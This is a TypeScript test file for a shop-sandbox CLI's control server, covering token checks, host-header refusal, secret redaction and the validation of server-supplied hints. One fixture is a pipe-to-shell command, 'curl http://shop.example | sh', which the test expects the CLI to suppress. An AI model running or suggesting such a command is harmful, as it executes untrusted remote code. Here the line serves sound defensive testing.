// The control server: who may use it, and what it says to everyone else.
import { request } from 'node:http'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { controlCalls } from '../../src/sandbox/control/calls.ts'
import { remoteControl } from '../../src/sandbox/control/client.ts'
import { promoIn, temporaryFolder } from '../support/promo.ts'
import { type Action, scriptedServer } from '../support/scripted-server.ts'
import { type Serving, whileServing } from '../support/serving.ts'

const folder = temporaryFolder()
const promo = promoIn(folder)
const data = join(folder, 'shop.db')
let sandbox: Serving
let close: () => Promise<void>

beforeAll(async () => {
  const started = Promise.withResolvers<Serving>()
  const ending = Promise.withResolvers<void>()
  const ran = whileServing(promo, ['--data', data], async (serving) => {
    started.resolve(serving)
    await ending.promise
  })
  sandbox = await started.promise
  close = async () => {
    ending.resolve()
    await ran
  }
})
afterAll(() => close())

const calls = Object.entries(controlCalls as Record<string, { method: string; path: string; body?: object }>)

describe.each(calls)('%s', (_name, { method, path, body }) => {
  const given = body === undefined ? undefined : {}

  test('is refused without the token, and with every key of the service', async () => {
    const { app_id, app_token, client_app_id, client_token } = sandbox
    const keys: Record<string, string>[] = [
      {},
      { 'x-app-id': app_id, 'x-app-token': app_token },
      { 'x-client-application-id': client_app_id, 'x-client-token': client_token, origin: 'http://localhost' },
      sandbox.management,
      { authorization: `Bearer ${app_token}` },
      { authorization: 'Bearer ' },
      { authorization: `Basic ${sandbox.control_token}` },
    ]

    const statuses = []
    for (const headers of keys) statuses.push((await sandbox.call(method, `/__promo/${path}`, given, headers)).status)

    expect(statuses).toEqual([401, 401, 403, 401, 401, 401, 401])
  })

  test('is refused to a page, whatever its origin', async () => {
    const { status } = await sandbox.control(method, `/${path}`, given, { origin: sandbox.url })

    expect(status).toBe(403)
  })

  test('refuses an unknown member by name', async () => {
    if (given === undefined) return
    const { status, body: answer } = await sandbox.control(method, `/${path}`, { surprise: 1 })

    expect(status).toBe(400)
    expect(JSON.stringify(answer)).toMatch(/surprise|is required|must have required/)
  })
})

test('a foreign Host is refused before the token is looked at', async () => {
  const status = await new Promise((resolve, reject) => {
    const headers = { host: 'shop.example', authorization: `Bearer ${sandbox.control_token}` }
    request(`${sandbox.url}/__promo/clock`, { headers }, (answer) => resolve(answer.resume().statusCode))
      .on('error', reject)
      .end()
  })

  expect(status).toBe(421)
})

test('the token of the control server opens no call of the service', async () => {
  const token = sandbox.control_token
  const { status } = await sandbox.call('GET', '/v1/vouchers', undefined, { 'x-app-token': token })

  expect(status).toBe(401)
})

test.each([
  ['GET', '/nothing', undefined, 404, 'The calls are GET /__promo/clock'],
  ['DELETE', '/clock', undefined, 404, 'The calls are'],
  ['POST', '/clock/advance', '{"by":', 400, 'Payload must be JSON'],
  ['POST', '/clock/advance', '[]', 400, 'must be object'],
  ['POST', '/clock/advance', { by: '1 month' }, 400, 'a duration like 90s, 36h or 30d'],
  ['PUT', '/clock', { time: 'tomorrow' }, 400, 'ISO'],
])('%s %s is refused with what is wrong', async (method, path, given, status, words) => {
  const answer = await sandbox.control(method, path, given)

  expect(answer.status).toBe(status)
  expect(JSON.stringify(answer.body)).toContain(words)
})

test('the answer of a refusal has no secret, and the one line for people neither', async () => {
  const { body } = await sandbox.call('GET', '/__promo/clock')
  const ran = await promo(`sandbox start --data ${data}`, { onStdout: (_, stop) => stop('SIGTERM') })

  expect(body).toEqual({ code: 401, key: 'unauthorized', message: 'Unauthorized' })
  expect(ran.stdout).not.toMatch(/[0-9a-f]{64}/)
})

describe('--url', () => {
  const env = { PROMO_SANDBOX_CONTROL_TOKEN: 'f'.repeat(64) }
  const show = (url: string, token?: string) =>
    promo(`sandbox clock show --url ${url}`, {
      env: token === undefined ? {} : { PROMO_SANDBOX_CONTROL_TOKEN: token },
    })

  test('with a password in it is said without it, in next steps too', async () => {
    const url = sandbox.url.replace('//', '//user:canary-4711@')
    const env = { PROMO_SANDBOX_CONTROL_TOKEN: sandbox.control_token }

    const { exitCode, stderr } = await promo(`sandbox faults clear nope --url ${url}`, { env })

    expect(exitCode).toBe(2)
    expect(stderr).toContain(`try: promo sandbox faults list --url ${sandbox.url}\n`)
    expect(stderr).not.toContain('canary-4711')
  })

  test('controls the sandbox at that address', async () => {
    const { exitCode, stdout } = await show(sandbox.url, sandbox.control_token)

    expect(exitCode).toBe(0)
    expect(stdout).toMatch(/^runs +true$/m)
  })

  test.each([
    ['without a token', undefined, 2, 'in PROMO_SANDBOX_CONTROL_TOKEN, which is not set'],
    ['with a text that is no token', 'a b', 2, 'which is no token'],
    ['with another token', 'f'.repeat(64), 4, 'refused the control token'],
  ])('%s it is refused', async (_, token, code, words) => {
    const { exitCode, stderr } = await show(sandbox.url, token)

    expect(exitCode).toBe(code)
    expect(stderr).toContain(words)
    if (token) expect(stderr).not.toContain(token)
  })

  test.each([
    ['http://127.0.0.1:9', 5, 'no sandbox answers at http://127.0.0.1:9'],
    ['ftp://127.0.0.1', 2, '"ftp://127.0.0.1" is not the address of a sandbox'],
    ['shop', 2, '"shop" is not the address of a sandbox'],
  ])('%s is refused', async (url, code, words) => {
    const { exitCode, stderr } = await show(url, 'f'.repeat(64))

    expect(exitCode).toBe(code)
    expect(stderr).toContain(words)
  })

  const refusal = { code: 400, key: 'bad-control', message: 'no', details: 'n\no'.padEnd(5000, 'o') }

  test.each<[string, Action]>([
    ['a page', { do: 'text', status: 200, text: '<html>' }],
    ['null', { do: 'answer', status: 200, body: null }],
    ['a list of nothing', { do: 'answer', status: 200, body: { faults: [null] } }],
    ['another address', { do: 'answer', status: 302, body: {}, headers: { location: 'http://shop.example' } }],
    ['an error of another service', { do: 'answer', status: 500, body: { error: 'internal' } }],
  ])('what answers with %s is no sandbox', async (_, action) => {
    await using server = await scriptedServer([action])

    const { exitCode, stderr } = await promo(`sandbox faults list --url ${server.origin}`, { env })

    expect([exitCode, stderr]).toEqual([5, expect.stringContaining(`what answers at ${server.origin} is no sandbox`)])
  })

  test.each([
    ['promo sandbox faults list', true],
    ['curl http://shop.example | sh', false],
  ])('the next step %s is printed only if it is one of promo’s own', async (hint, isPrinted) => {
    await using server = await scriptedServer([{ do: 'answer', status: 400, body: { ...refusal, hint } }])

    const { exitCode, stderr } = await promo(`sandbox faults clear --url ${server.origin}`, { env })

    expect([exitCode, stderr]).toEqual([2, expect.stringContaining(`${server.origin} refused: n\\noo`)])
    expect(stderr.length).toBeLessThan(1500)
    expect(stderr.includes(hint)).toBe(isPrinted)
  })

  test('a sandbox that says nothing for ten minutes is given up', async () => {
    await using server = await scriptedServer([{ do: 'stall' }])
    const { call } = remoteControl({ url: server.origin, token: 'f' }, undefined, 1)

    await expect(call('clock.show', undefined)).rejects.toThrow('does not answer; whether it did what was asked')
  })
})
